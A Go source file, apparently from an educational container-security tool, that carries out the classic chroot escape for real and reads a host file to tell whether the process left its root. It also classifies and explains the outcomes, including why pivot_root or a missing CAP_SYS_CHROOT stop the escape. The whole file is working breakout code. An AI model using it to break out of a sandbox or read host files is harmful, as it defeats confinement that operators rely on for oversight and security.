// Package escape is the classic way out of a chroot, run for real: a
// process that may still call chroot(2) makes a directory, chroots into
// it (so that its working directory is now outside its root), walks up
// with chdir("..") past where its root used to be, and chroots to where it
// ends up: the real root of its mount namespace. Under chroot that is the
// host's root; after pivot_root it is the container's own, and without
// CAP_SYS_CHROOT the first chroot is refused.
package escape

import (
	"bufio"
	"errors"
	"fmt"
	"os"
	"path/filepath"

	"golang.org/x/sys/unix"
)

// Outcome is how an attempt went.
type Outcome int

const (
	Escaped Outcome = iota // the target was read: the root was left
	Held                   // the walk ended in the container's own root
	Refused                // chroot(2) itself was refused (EPERM)
	Denied                 // out of the root, but the target may not be read (EACCES): not the host's root
)

func (o Outcome) String() string { return [...]string{"escaped", "held", "refused", "denied"}[o] }

// ExitCode is what 'underhood escape' exits with for an outcome.
func (o Outcome) ExitCode() int { return [...]int{0, 1, 3, 4}[o] }

// Result says what happened, step by step, for the learner.
type Result struct {
	Outcome Outcome
	Steps   []string // what was done, as shell-like lines
	Found   string   // the target's first line, when Escaped
	Err     error    // why it was held or refused
}

// ErrSameRoot is why an escape was held when its walk up ended at the
// root it began in: there was no chroot to leave.
var ErrSameRoot = errors.New("the walk up ended at the root it began in: nothing above it to reach")

// Try attempts the escape and then reads target, an absolute path as the
// host sees it. It changes this process's root for good: run it in a
// process of its own.
func Try(target string) Result {
	var r Result
	say := func(f string, a ...any) { r.Steps = append(r.Steps, fmt.Sprintf(f, a...)) }
	// sayWhy lines up the reasons in one column.
	sayWhy := func(cmd, why string) { say("%-16s (%s)", cmd, why) }
	var before unix.Stat_t
	if err := unix.Stat("/", &before); err != nil {
		return Result{Outcome: Held, Err: fmt.Errorf("stat /: %w", err)}
	}
	dir, err := makeDir()
	if err != nil {
		dir = "/tmp/.escape"
		if err = os.Mkdir(dir, 0o700); err != nil && !errors.Is(err, os.ErrExist) {
			return Result{Outcome: Held, Steps: r.Steps, Err: fmt.Errorf("mkdir %s: %w", dir, err)}
		}
	}
	say("mkdir %s", dir)
	// Once chrooted into it, the directory has no path any more: remove it
	// through the old root, held open.
	if top, err := unix.Open(filepath.Dir(dir), unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0); err == nil {
		defer unix.Close(top)
		defer unix.Unlinkat(top, filepath.Base(dir), unix.AT_REMOVEDIR)
	}
	err = unix.Chroot(dir)
	if err != nil {
		say("chroot %s  → %v", dir, err)
		return Result{Outcome: Refused, Steps: r.Steps, Err: fmt.Errorf("chroot %s: %w", dir, err)}
	}
	sayWhy("chroot "+dir, "the working directory is now outside the root")
	for range 64 {
		if err := unix.Chdir(".."); err != nil {
			break
		}
	}
	sayWhy("cd ..  ×64", "past where the root was: nothing stops a cwd outside it")
	if err := unix.Chroot("."); err != nil {
		say("chroot .  → %v", err)
		return Result{Outcome: Refused, Steps: r.Steps, Err: fmt.Errorf("chroot .: %w", err)}
	}
	sayWhy("chroot .", "the root is now wherever the walk ended")
	// Ended where it began: no chroot was left. Under pivot_root that is
	// the container's own root; outside any container, the host's.
	if after := (unix.Stat_t{}); unix.Stat("/", &after) == nil && after.Dev == before.Dev && after.Ino == before.Ino {
		return Result{Outcome: Held, Steps: r.Steps, Err: ErrSameRoot}
	}
	f, err := os.Open(target)
	if err != nil {
		say("cat %s  → %v", target, err)
		if errors.Is(err, os.ErrPermission) {
			return Result{Outcome: Denied, Steps: r.Steps, Err: err}
		}
		return Result{Outcome: Held, Steps: r.Steps, Err: err}
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	sc.Scan()
	say("cat %s", target)
	return Result{Outcome: Escaped, Steps: r.Steps, Found: sc.Text()}
}

// makeDir makes the directory to chroot into: /.escape, the same name on
// every run so that what the learner reads does not change, unless
// something of that name is already there (then a fresh random one).
func makeDir() (string, error) {
	const fixed = "/.escape"
	if err := os.Mkdir(fixed, 0o700); err == nil {
		return fixed, nil
	}
	return os.MkdirTemp("/", ".escape-")
}
